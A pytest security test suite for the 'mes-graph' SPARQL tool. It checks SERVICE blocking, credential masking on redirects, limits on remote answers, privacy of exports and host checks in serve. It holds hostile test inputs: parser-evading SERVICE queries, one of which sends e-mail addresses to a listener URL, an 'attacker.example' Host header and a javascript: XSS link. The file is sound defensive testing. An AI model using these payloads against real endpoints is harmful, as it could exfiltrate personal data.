"""Nothing leaks, nothing leaves: the holes of issue 14, each reproduced on real components.

A listener on loopback stands for the attacker's server: no query may reach it without
``--allow-service``; no credential may reach it through a redirect. A real Oxigraph server
takes a push that fails half-way; real ``mes-graph serve`` processes are killed. The public
exports of people who did not consent are searched for their address, e-mail and phone.
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import http.server
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from rdflib import Literal, URIRef
from stores import ForwardingProxy, pushed

from mes_graph import sparql
from mes_graph.base.files import remove_leftovers
from mes_graph.cli import main
from mes_graph.engine import STORE_COMPLETE, STORE_FILLING
from mes_graph.load import load
from mes_graph.sparql import (
    STAGING,
    Endpoint,
    OxigraphServer,
    QueryError,
    RemoteError,
    execute,
    push,
    service_calls,
)

FIXTURES = Path(__file__).parent / "fixtures"
NESTED = FIXTURES / "personal-data-nested.ttl"
PERSONAL = FIXTURES / "personal-data.ttl"
MES_CLI = [sys.executable, "-m", "mes_graph.cli"]
QUADS = "SELECT ?g ?s ?p ?o WHERE { GRAPH ?g { ?s ?p ?o } }"


# --- a listener on loopback: the attacker's server --------------------------------------


class Listener:
    """An HTTP server on 127.0.0.1 recording every request; ``answer`` says what to reply."""

    def __init__(self, answer: Callable[[http.server.BaseHTTPRequestHandler], None] | None = None):
        self.requests: list[tuple[str, str, dict[str, str], bytes]] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                listener.requests.append((self.command, self.path, dict(self.headers), body))
                (answer or Listener.empty_results)(self)

            do_GET = do_POST = do_PUT = do_DELETE = _any

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/sparql"
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()

    @staticmethod
    def empty_results(handler: http.server.BaseHTTPRequestHandler) -> None:
        body = b'{"head": {"vars": []}, "results": {"bindings": [{}]}}'
        handler.send_response(200)
        handler.send_header("Content-Type", "application/sparql-results+json")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Callable[..., Listener]]:
    started: list[Listener] = []

    def start(answer=None) -> Listener:
        started.append(Listener(answer))
        return started[-1]

    yield start
    for server in started:
        server.close()


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def personal() -> dict[str, object]:
    """The shipped graph plus a non-consenting person with an e-mail, on both engines."""
    return {engine: load([PERSONAL], engine=engine) for engine in ("oxigraph", "memory")}


# --- SERVICE: no request leaves without --allow-service ---------------------------------


def service_payloads(url: str) -> dict[str, str]:
    """Queries that call ``url``, written to slip past a parser that reads them wrongly."""
    base = url.rsplit("/", 1)[0] + "/"
    leak = (
        "PREFIX foaf: <http://xmlns.com/foaf/0.1/>\n"
        "SELECT ?p WHERE { ?p foaf:mbox ?m "
        f'BIND (IRI(CONCAT("{url}?", ENCODE_FOR_URI(STR(?m)))) AS ?u) '
        "FILTER EXISTS { SERVICE SILENT ?u { } } }"
    )
    return {
        "comment ended by CR": f"SELECT * WHERE {{ ?s ?p ?o # x\r SERVICE <{url}> {{ }}\n}}",
        "CR LF lines": f"SELECT * WHERE {{\r\n  SERVICE <{url}> {{ ?a ?b ?c }}\r\n}}",
        "lower case": f"select * where {{ service <{url}> {{ ?a ?b ?c }} }}",
        "prefixed endpoint": f"PREFIX l: <{base}> SELECT * WHERE {{ SERVICE l:sparql {{ }} }}",
        "in a sub-select": f"SELECT * WHERE {{ {{ SELECT * WHERE {{ SERVICE <{url}> {{ }} }} }} }}",
        "optional silent": f"SELECT * WHERE {{ OPTIONAL {{ SERVICE SILENT <{url}> {{ }} }} }}",
        "in MINUS and UNION": (
            f"SELECT * WHERE {{ {{ ?s ?p ?o }} MINUS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}"
        ),
        "escaped quote in a string": (
            'SELECT * WHERE { VALUES ?x { "a\\u0022" } '
            f'SERVICE <{url}> {{ }} VALUES ?y {{ "\\u0022" }} }}'
        ),
        "ASK": f"ASK {{ SERVICE <{url}> {{ ?a ?b ?c }} }}",
        "CONSTRUCT": f"CONSTRUCT {{ ?a ?b ?c }} WHERE {{ SERVICE <{url}> {{ ?a ?b ?c }} }}",
        "variable endpoint in FILTER EXISTS": leak,
        "variable endpoint after a comment": (
            f"SELECT * WHERE {{ BIND (<{url}> AS ?u) SERVICE # c\r ?u {{ }} }}"
        ),
    }


@pytest.mark.parametrize("engine", ["oxigraph", "memory"])
def test_no_query_reaches_a_listener_without_allow_service(engine, personal, listener):
    target = listener()
    for name, text in service_payloads(target.url).items():
        assert service_calls(text), name
        with pytest.raises(QueryError, match="SERVICE"):
            execute(text, dataset=personal[engine])
    assert target.requests == []


def test_a_variable_endpoint_is_refused_even_with_allow_service(personal, listener, capsys):
    target = listener()
    payloads = service_payloads(target.url)
    for name in ("variable endpoint in FILTER EXISTS", "variable endpoint after a comment"):
        with pytest.raises(QueryError, match=r"SERVICE \?u: the endpoint is computed"):
            execute(payloads[name], dataset=personal["oxigraph"], allow_service=True)
    code, out, err = run_cli(
        capsys, "query", payloads["variable endpoint in FILTER EXISTS"], "--data", str(PERSONAL),
        "--allow-service",
    )  # fmt: skip
    assert (code, out) == (2, "") and err.count("\n") == 1
    assert target.requests == []


def test_the_cli_refuses_the_carriage_return_trick(listener, capsys):
    target = listener()
    text = service_payloads(target.url)["comment ended by CR"]
    code, _, err = run_cli(capsys, "query", text)
    assert code == 2 and "--allow-service" in err and target.requests == []
    assert run_cli(capsys, "query", text, "--allow-service")[0] == 0  # the listener is real
    assert len(target.requests) == 1


def test_the_word_service_elsewhere_is_no_call(personal):
    text = (
        "PREFIX service: <urn:service:>\n"
        'SELECT ?service WHERE { BIND ("SERVICE <http://x/> { }" AS ?service) } # SERVICE <y>'
    )
    assert service_calls(text) == ()
    rows = execute(text, dataset=personal["oxigraph"]).rows
    assert rows == ((Literal("SERVICE <http://x/> { }"),),)
    # an escaped CR in a comment is no line end for either engine: still a comment
    assert service_calls("ASK { } # \\u000D SERVICE <http://x/> { }\n") == ()


def test_a_failing_service_says_why(listener, capsys):
    def fail(handler) -> None:
        handler.send_response(500)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    target = listener(fail)
    text = f"SELECT * WHERE {{ SERVICE <{target.url}> {{ ?a ?b ?c }} }}"
    code, _, err = run_cli(capsys, "query", text, "--allow-service")
    assert code == 3 and err.startswith("mes-graph: error: SERVICE failed: ") and "None" not in err


# --- credentials and redirects ----------------------------------------------------------


def redirect_to(location: str, status: int = 302):
    def answer(handler) -> None:
        handler.send_response(status)
        handler.send_header("Location", location)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    return answer


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_no_credential_follows_a_redirect(status, listener, monkeypatch, capsys):
    elsewhere = listener()
    redirector = listener(redirect_to(f"http://localhost:{elsewhere.port}/stolen", status))
    monkeypatch.setenv("MES_GRAPH_TOKEN", "tok-SECRET")
    code, out, err = run_cli(capsys, "push", "--endpoint", redirector.url, "--batch-size", "500")
    assert code == 3 and out == "" and err.count("\n") == 1
    assert f"HTTP {status}, redirected to http://localhost:{elsewhere.port}/stolen" in err
    assert "the update was not applied" in err and err.endswith("; nothing was loaded\n")
    assert "SECRET" not in err
    monkeypatch.delenv("MES_GRAPH_TOKEN")
    monkeypatch.setenv("MES_GRAPH_USER", "alice")
    monkeypatch.setenv("MES_GRAPH_PASSWORD", "pw-SECRET")
    code, _, err = run_cli(capsys, "query", "members", "--endpoint", redirector.url)
    assert code == 3 and "not followed" in err and "SECRET" not in err
    assert elsewhere.requests == []
    assert len(redirector.requests) == 2  # one push request, one query: nothing retried


def test_credentials_echoed_by_a_server_are_not_printed(listener, monkeypatch, capsys):
    def echo(handler) -> None:
        body = f"you sent {handler.headers.get('Authorization')}".encode()
        handler.send_response(401)
        handler.send_header("WWW-Authenticate", 'Basic realm="store"')  # as RFC 7235 asks
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    server = listener(echo)
    monkeypatch.setenv("MES_GRAPH_USER", "alice")
    monkeypatch.setenv("MES_GRAPH_PASSWORD", "secret123")
    code, _, err = run_cli(capsys, "query", "members", "--endpoint", server.url)
    basic = base64.b64encode(b"alice:secret123").decode()
    assert code == 3 and "you sent Basic ***" in err
    assert basic not in err and "secret123" not in err
    monkeypatch.setenv("MES_GRAPH_TOKEN", "tok-SECRET")
    code, _, err = run_cli(capsys, "push", "--endpoint", server.url)
    assert code == 3 and "you sent Bearer ***" in err and "SECRET" not in err


def test_a_token_read_from_a_windows_file(listener, monkeypatch, capsys):
    server = listener()
    monkeypatch.setenv("MES_GRAPH_TOKEN", "tok-SECRET\r\n")
    assert run_cli(capsys, "query", "SELECT * WHERE {}", "--endpoint", server.url)[0] == 0
    assert len(server.requests) == 2  # which graphs push recorded, then the query
    assert {r[2]["Authorization"] for r in server.requests} == {"Bearer tok-SECRET"}
    monkeypatch.setenv("MES_GRAPH_TOKEN", "tok\x1bSECRET")
    code, _, err = run_cli(capsys, "query", "SELECT * WHERE {}", "--endpoint", server.url)
    assert code == 2 and "MES_GRAPH_TOKEN holds a character" in err and "SECRET" not in err
    assert len(server.requests) == 2  # nothing sent


# --- deadlines and sizes of remote answers ----------------------------------------------


def trickle(handler) -> None:
    """One byte a second, for ever: each read is answered, the answer never ends."""
    handler.send_response(200)
    handler.send_header("Content-Type", "application/sparql-results+json")
    handler.end_headers()
    with contextlib.suppress(OSError):
        for _ in range(60):
            handler.wfile.write(b" ")
            handler.wfile.flush()
            time.sleep(1)


def flood(handler) -> None:
    """An endless answer, as fast as it goes."""
    handler.send_response(200)
    handler.send_header("Content-Type", "application/sparql-results+json")
    handler.end_headers()
    handler.server.sent = 0
    with contextlib.suppress(OSError):
        while handler.server.sent < 200 * 2**20:
            handler.wfile.write(b" " * 2**16)
            handler.server.sent += 2**16


def test_a_trickling_server_meets_the_deadline(listener, capsys):
    server = listener(trickle)
    start = time.monotonic()
    code, _, err = run_cli(capsys, "query", "members", "--endpoint", server.url, "--timeout", "2")
    assert code == 3 and "no answer within 2 s" in err
    assert time.monotonic() - start < 4


def test_an_endless_answer_is_cut_at_the_cap(listener):
    server = listener(flood)
    with pytest.raises(RemoteError, match="larger than 2 MiB: stopped"):
        Endpoint(server.url, max_bytes=2 * 2**20).query("ASK {}")
    time.sleep(0.2)
    assert server.server.sent < 8 * 2**20  # the client stopped reading at the cap


def test_deeply_nested_json_is_one_line(listener, capsys):
    def nested(handler) -> None:
        body = b"[" * 200_000
        handler.send_response(200)
        handler.send_header("Content-Type", "application/sparql-results+json")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    server = listener(nested)
    code, _, err = run_cli(capsys, "query", "members", "--endpoint", server.url)
    assert code == 3 and "malformed result" in err and err.count("\n") == 1


# --- push: atomic, and literals as written ----------------------------------------------


def store_quads(server: OxigraphServer) -> set[tuple]:
    return set(execute(QUADS, endpoint=server.endpoint).rows)


def test_push_replace_under_failure_leaves_the_store_as_it_was(dataset):
    changed = load([PERSONAL])
    with OxigraphServer(read_only=False) as server:
        push(dataset, server.update_endpoint)
        before = store_quads(server)
        assert before == pushed(dataset)
        for fails, left in ((lambda n: n >= 3, True), (lambda n: n == 3, False)):
            proxy = ForwardingProxy(
                server.update_endpoint, lambda n, body, fails=fails: None if fails(n) else body
            )
            with pytest.raises(RemoteError) as err:
                push(changed, proxy.url, replace=True, batch_size=100)
            proxy.server.shutdown()
            message = str(err.value)
            assert "HTTP 500" in message and "request 3 of " in message
            assert "failed before the swap: the target graphs are unchanged" in message
            assert ("staging graphs left in the store" in message) is left
            after = store_quads(server)
            staged = {q[0] for q in after if str(q[0]).startswith(STAGING)}
            assert {q for q in after if q[0] not in staged} == before
            assert bool(staged) is left
            for name in staged:  # as the message says: drop them
                Endpoint(server.update_endpoint).update(f"DROP GRAPH <{name}>")
        push(changed, server.update_endpoint, replace=True, batch_size=100)
        assert store_quads(server) == pushed(changed)


def test_push_sends_backslashes_as_written(tmp_path):
    data = tmp_path / "paths.ttl"
    data.write_text(
        '<urn:x:a> <urn:x:path> "C:\\\\Users\\\\u00e9" , "\\\\U0001F600 and \\\\" .\n', "utf-8"
    )
    ds = load([data], shipped=False)
    with OxigraphServer(read_only=False) as server:
        push(ds, server.update_endpoint)
        values = execute("SELECT ?v WHERE { <urn:x:a> ?p ?v }", endpoint=server.endpoint).rows
    assert sorted(str(v) for (v,) in values) == ["C:\\Users\\u00e9", "\\U0001F600 and \\"]


# --- personal data in the public exports ------------------------------------------------


def test_public_exports_hold_none_of_a_non_consenting_persons_details(tmp_path, capsys):
    out = tmp_path / "exports"
    data = ["--data", str(NESTED), "--data", str(PERSONAL)]
    commands = [
        ["export", "--format", fmt, "-o", str(out / f"all.{fmt}")]
        for fmt in ("turtle", "ntriples", "nquads", "trig", "jsonld", "rdfxml", "graphml", "gexf")
    ]
    commands += [
        ["export", "--format", "csv", "-o", str(out / "csv")],
        ["export", "--format", "jsonld", "--profile", "schemaorg", "-o", str(out / "schemaorg")],
        ["site", "-o", str(out / "site")],
        ["export", "--format", "ntriples", "--profile", "full", "-o", str(tmp_path / "full.nt")],
    ]
    for command in commands:
        assert run_cli(capsys, *command, *data)[0] == 0, command
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) > 100
    leaks = [p for p in files if b"SECRET" in p.read_bytes() or b"camille@" in p.read_bytes()]
    assert leaks == []
    ntriples = (out / "all.ntriples").read_text("utf-8")
    for name in ("Alix Fictive", "Bao Fictif", "Chloé Fictive", "Dara Sans-IRI"):
        assert f'"{name}"' in ntriples
    assert "<https://w3id.org/mes-graph/id/membership/alix-foaf--mes>" in ntriples
    assert (tmp_path / "full.nt").read_bytes().count(b"SECRET") == 13  # all were there


# --- serve ------------------------------------------------------------------------------


class Served:
    """``mes-graph serve`` in its own process, with the temporary folder of the test."""

    def __init__(self, tmp_path: Path, *args: str) -> None:
        self.port = sparql.free_port()
        self.tmp = tmp_path / "tmp"
        self.tmp.mkdir(exist_ok=True)
        self.process = subprocess.Popen(
            [*MES_CLI, "serve", "--port", str(self.port), *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "TMPDIR": str(self.tmp)},
        )
        self.banner = self.process.stdout.readline()
        assert self.banner.startswith(f"SPARQL endpoint: http://127.0.0.1:{self.port}/query ")

    def ask(self, query: str, headers: dict[str, str] | None = None, path: str = "/query"):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        body = "query=" + urllib.parse.quote(query)
        connection.request(
            "POST",
            path,
            body=body,
            headers={"Content-Type": "application/x-www-form-urlencoded", **(headers or {})},
        )
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")

    def oxigraph_processes(self) -> list[int]:
        found = []
        for proc in Path("/proc").iterdir():
            with contextlib.suppress(OSError):
                cmdline = (proc / "cmdline").read_bytes()
                if proc.name.isdigit() and str(self.tmp).encode() in cmdline:
                    found.append(int(proc.name))
        return found

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()


@pytest.fixture
def served(tmp_path) -> Iterator[Callable[..., Served]]:
    started: list[Served] = []

    def start(*args: str) -> Served:
        started.append(Served(tmp_path, *args))
        return started[-1]

    yield start
    for server in started:
        server.stop()


def test_serve_answers_only_its_own_clients(served, listener):
    target = listener()
    server = served("--timeout-s", "2", "--max-mb", "1", "--data", str(NESTED))
    assert server.ask("ASK { ?s ?p ?o }") == (200, '{"head":{},"boolean":true}')
    assert server.ask("ASK {}", {"Host": f"localhost:{server.port}"})[0] == 200
    status, message = server.ask("ASK {}", {"Host": "attacker.example"})
    assert status == 403 and "answers only to 127.0.0.1" in message
    assert server.ask("ASK {}", {"Host": f"attacker.example:{server.port}"})[0] == 403
    assert server.ask("ASK {}", {"Origin": "http://attacker.example"})[0] == 403
    assert server.ask("ASK {}", {"Sec-Fetch-Site": "cross-site"})[0] == 403
    assert server.ask("ASK {}", {"Origin": f"http://127.0.0.1:{server.port}"})[0] == 200
    for text in service_payloads(target.url).values():
        status, message = server.ask(text)
        assert status == 403 and "calls no other endpoint" in message, text
    assert target.requests == []
    assert server.ask("DROP ALL", path="/update") == (403, "this endpoint is read-only\n")
    count = 'SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o FILTER CONTAINS(STR(?o), "SECRET") }'
    assert '"value":"0"' in server.ask(count)[1]  # the public profile by default
    start = time.monotonic()
    status, message = server.ask("SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }")
    assert (status, message) == (504, "no complete answer within 2 s: stopped\n")
    assert time.monotonic() - start < 5
    status, message = server.ask("SELECT * WHERE { ?a ?b ?c . ?d ?e ?f }")
    assert (status, message) == (507, "the answer is larger than 1 MiB: stopped\n")


@pytest.mark.parametrize("stop", [signal.SIGKILL, signal.SIGHUP])
def test_serve_leaves_no_oxigraph_and_no_data_behind(stop, served):
    server = served()
    assert len(server.oxigraph_processes()) == 2  # the watchdog and Oxigraph
    assert [p.name[:19] for p in server.tmp.iterdir()] == ["mes-graph-oxigraph-"]
    server.process.send_signal(stop)
    deadline = time.monotonic() + 2
    while (server.oxigraph_processes() or list(server.tmp.iterdir())) and (
        time.monotonic() < deadline
    ):
        time.sleep(0.05)
    assert server.oxigraph_processes() == [] and list(server.tmp.iterdir()) == []
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", server.port), timeout=1).close()


def test_serve_on_a_busy_or_impossible_port(capsys):
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen(1)
        port = busy.getsockname()[1]
        done = subprocess.run(
            [*MES_CLI, "serve", "--port", str(port)], capture_output=True, text=True, timeout=60
        )
    assert done.returncode == 3 and done.stdout == ""
    assert done.stderr == f"mes-graph: error: port {port} of 127.0.0.1: Address already in use\n"
    code, _, err = run_cli(capsys, "serve", "--port", "99999")
    assert code == 2 and "choose a port from 0 to 65535" in err


# --- spreadsheets formulas and bombs: tests/test_spreadsheet_safety.py -------------------


# --- local reliability ------------------------------------------------------------------


def test_a_data_file_whose_name_holds_a_space(tmp_path, capsys):
    data = tmp_path / "mes acteurs.ttl"
    data.write_text('<urn:x:a> <http://www.w3.org/2004/02/skos/core#prefLabel> "A"@fr .\n', "utf-8")
    ds = load([data])
    graphs = {str(g.identifier) for g in ds.graphs() if len(g)}
    assert "https://w3id.org/mes-graph/graph/data/mes%20acteurs" in graphs
    assert run_cli(capsys, "stats", "--data", str(data))[0] == 0


def test_an_interrupted_first_fill_of_a_store_is_started_again(tmp_path, capsys):
    big = tmp_path / "big.ttl"
    assert main(["synth", "--organisations", "3000", "-o", str(big)]) == 0
    store = tmp_path / "store"
    filling = subprocess.Popen([*MES_CLI, "stats", "--store", str(store), "--data", str(big)])
    while not (store / STORE_FILLING).exists():
        assert filling.poll() is None
        time.sleep(0.005)
    filling.kill()
    filling.wait()
    assert not (store / STORE_COMPLETE).exists()
    capsys.readouterr()
    code, out, _ = run_cli(capsys, "stats", "--store", str(store))
    assert code == 0 and out == run_cli(capsys, "stats")[1]  # filled again, without --data
    assert (store / STORE_COMPLETE).exists() and not (store / STORE_FILLING).exists()


def test_a_locked_or_corrupt_store_is_one_line(tmp_path, capsys):
    store = tmp_path / "store"
    assert subprocess.run([*MES_CLI, "stats", "--store", str(store)], check=False).returncode == 0
    hold = "import pyoxigraph, sys, time; s = pyoxigraph.Store(sys.argv[1]); print(1, flush=True)"
    holder = subprocess.Popen(
        [sys.executable, "-c", hold + "; time.sleep(60)", str(store)], stdout=subprocess.PIPE
    )
    assert holder.stdout.readline() == b"1\n"
    capsys.readouterr()
    code, _, err = run_cli(capsys, "stats", "--store", str(store))
    holder.kill()
    holder.wait()
    assert code == 2 and err == (
        f"mes-graph: error: {store}: the store is in use by another process "
        "(one process per --store)\n"
    )
    corrupt = tmp_path / "corrupt"
    corrupt.mkdir()
    (corrupt / "CURRENT").write_text("garbage\n")
    code, _, err = run_cli(capsys, "stats", "--store", str(corrupt))
    assert code == 2 and "not an Oxigraph store, or damaged" in err and err.count("\n") == 1


def test_ctrl_c_stops_a_long_local_query():
    query = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    running = subprocess.Popen([*MES_CLI, "query", query], stderr=subprocess.PIPE, text=True)
    time.sleep(3)  # loaded, and deep in the query
    assert running.poll() is None
    sent = time.monotonic()
    running.send_signal(signal.SIGINT)
    assert running.wait(5) == 130 and time.monotonic() - sent < 2
    assert running.stderr.read() == "mes-graph: interrupted\n"


def test_bad_inputs_get_one_line_naming_the_fault(tmp_path, capsys):
    folder, fifo, loop = tmp_path / "folder.ttl", tmp_path / "pipe.ttl", tmp_path / "loop.ttl"
    folder.mkdir()
    os.mkfifo(fifo)
    loop.symlink_to(loop)
    faults = {
        folder: "a folder, not a file",
        fifo: "not a regular file (a pipe, a socket or a device)",
        loop: "too many levels of symbolic links",
        tmp_path / "missing.ttl": "no such file",
    }
    for path, fault in faults.items():
        assert run_cli(capsys, "stats", "--data", str(path)) == (
            2, "", f"mes-graph: error: {path}: {fault}\n",
        )  # fmt: skip
    big = tmp_path / "big.ttl"
    big.write_text('<urn:x:a> <urn:x:p> """\n' + "a" * (17 * 2**20) + '""" .\n', "utf-8")
    long_line = tmp_path / "long.ttl"
    long_line.write_text('<urn:x:a> <urn:x:p> "' + "a" * (17 * 2**20) + '" .\n', "utf-8")
    assert run_cli(capsys, "stats", "--data", str(long_line))[2] == (
        f"mes-graph: error: {long_line}:1: a term longer than 16 MiB: Oxigraph reads none\n"
    )
    assert run_cli(capsys, "stats", "--data", str(big))[0] == 2
    code, _, err = run_cli(capsys, "query", "SELECT * WHERE { SERVICE ?u { } }", "--allow-service")
    assert code == 2 and "SERVICE ?u" in err and err.count("\n") == 1


def test_a_non_utf8_endpoint_argument():
    done = subprocess.run(
        [*MES_CLI, "query", "members", "--endpoint", os.fsdecode(b"http://127.0.0.1/\xff")],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 2
    assert done.stderr == "mes-graph: error: the endpoint URL is not valid UTF-8\n"


def test_a_full_disk_names_the_file_and_leaves_nothing(tmp_path):
    target = tmp_path / "out" / "graph.nt"

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # write() then fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    done = subprocess.run(
        [*MES_CLI, "export", "--format", "ntriples", "-o", str(target)],
        capture_output=True, text=True, preexec_fn=small_files, check=False,
    )  # fmt: skip
    assert done.returncode == 2
    assert done.stderr == f"mes-graph: error: {target}: File too large\n"
    assert list(target.parent.iterdir()) == []


def test_a_folder_that_cannot_be_written_is_named(tmp_path, capsys):
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    if os.geteuid() == 0:  # root writes in any folder of the disk, but not in /sys
        folder = Path("/sys")
        with contextlib.suppress(OSError), open(folder / "mes-graph-probe", "wb"):
            pytest.skip("root may write in /sys here: no folder is read-only to it")
    target = folder / "graph.ttl"
    code, _, err = run_cli(capsys, "export", "--format", "turtle", "-o", str(target))
    assert code == 2 and err == f"mes-graph: error: {target}: Permission denied\n"


def test_a_killed_build_leaves_nothing_the_next_one_keeps(tmp_path):
    output = tmp_path / "build"
    building = subprocess.Popen([*MES_CLI, "build", "-o", str(output), "--quiet"])
    while not list(tmp_path.glob(".build.*.tmp")):
        assert building.poll() is None
        time.sleep(0.01)
    time.sleep(0.5)
    building.kill()
    building.wait()
    assert list(tmp_path.glob(".build.*")) and not output.exists()
    assert main(["build", "-o", str(output), "--quiet"]) == 0
    assert list(tmp_path.glob(".build.*")) == [] and (output / "report.html").is_file()
    mine = tmp_path / f".build.{os.getpid()}.mine.tmp"  # a running process's: kept
    mine.mkdir()
    assert remove_leftovers(output) == [] and mine.is_dir()


def test_from_named_an_existing_graph(capsys, dataset):
    source = "https://w3id.org/mes-graph/id/source/mes-presentation"
    text = f"SELECT (COUNT(*) AS ?n) FROM NAMED <{source}> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}"
    count = len(dataset.graph(URIRef(source)))
    assert 400 < count < len(dataset)
    for engine in ("oxigraph", "memory"):
        code, out, _ = run_cli(capsys, "query", text, "--engine", engine, "--format", "csv")
        assert code == 0 and out == f"n\n{count}\n"
    code, _, err = run_cli(capsys, "query", text.replace(source, "urn:x:none"))
    assert code == 2 and "FROM NAMED <urn:x:none>: the local dataset has no such graph" in err


# --- links a page may hold --------------------------------------------------------------


def test_javascript_endpoints_and_homepages_make_no_link(tmp_path, capsys, browser_context):
    code, _, err = run_cli(capsys, "site", "-o", str(tmp_path / "s"), "--endpoint", "javascript:x")
    assert code == 2 and "is not an http(s) URL" in err
    hostile = tmp_path / "hostile.ttl"
    hostile.write_text(
        "@prefix foaf: <http://xmlns.com/foaf/0.1/> .\n"
        "<https://w3id.org/mes-graph/id/organisation/mes> "
        "foaf:homepage <javascript:alert(document.domain)> .\n",
        "utf-8",
    )
    site = tmp_path / "site"
    assert run_cli(capsys, "site", "-o", str(site), "--data", str(hostile),
                   "--endpoint", "https://example.org/sparql")[0] == 0  # fmt: skip
    dialogs: list[str] = []
    pages = [site / "index.html", site / "donnees" / "index.html", *site.rglob("mes.html")]
    for path in pages:
        page = browser_context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(path.as_uri())
        hrefs = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")
        assert hrefs and not [h for h in hrefs if h.lower().startswith("javascript:")]
        page.close()
    assert len(pages) == 3 and dialogs == []
